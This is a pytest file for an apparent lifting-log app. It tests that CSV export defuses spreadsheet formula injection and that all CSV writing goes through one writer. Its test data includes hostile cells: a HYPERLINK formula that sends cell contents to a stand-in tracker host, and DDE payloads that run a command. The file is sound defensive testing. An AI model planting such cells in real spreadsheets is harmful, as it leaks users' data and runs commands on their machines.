"""No CSV legday writes holds a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest

from legday.csv_export import (
    FORMULA_LEADS,
    csv_text,
    neutralise_formula,
    restore_formula,
)
from tests.conftest import ROOT

#: Cells a spreadsheet runs, as found in hostile lifting logs.
FORMULAS = [
    '=HYPERLINK("https://tracker.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A1",
    "+1+2",
    "-2+3",
    "-cmd|' /C calc'!A1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already marked once: still marked, and still reads back as written
]
#: Cells that are no formula and stay as they are.
PLAIN = ["Back squat", "[warmup] easy", "", "-3.5", "+2", "1e-3", "-.5", "a=b", "'quoted'"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_is_written_as_text_and_reads_back(cell: str):
    written = neutralise_formula(cell)
    assert written == "'" + cell
    assert restore_formula(written) == cell


@pytest.mark.parametrize("cell", [*PLAIN, 12.5, -3, None])
def test_other_cells_are_left_alone(cell: object):
    assert neutralise_formula(cell) == cell
    if isinstance(cell, str):
        assert restore_formula(cell) == cell


def _starts_a_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_LEADS) and not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell)


def test_a_csv_holds_no_formula_and_keeps_numbers():
    text = csv_text(["=name", "value"], [[cell, -3.5] for cell in FORMULAS + PLAIN])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["'=name", "value"]
    assert not [cell for row in rows for cell in row if _starts_a_formula(cell)]
    assert [restore_formula(row[0]) for row in rows[1:]] == FORMULAS + PLAIN
    assert {row[1] for row in rows[1:]} == {"-3.5"}


def test_every_csv_legday_writes_goes_through_the_one_writer():
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(")
    sources = [*ROOT.glob("legday/**/*.py"), *ROOT.glob("views/*.py"), ROOT / "app.py",
               *ROOT.glob("scripts/*.py")]
    elsewhere = [str(path.relative_to(ROOT)) for path in sources
                 if path.name != "csv_export.py" and writers.search(path.read_text("utf-8"))]
    assert elsewhere == []


def test_a_carriage_return_inside_a_cell_starts_no_row():
    cell = 'heavy\r=HYPERLINK("https://tracker.example","x")'
    text = csv_text(["notes"], [[cell], ["ok"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["notes"], [cell], ["ok"]]
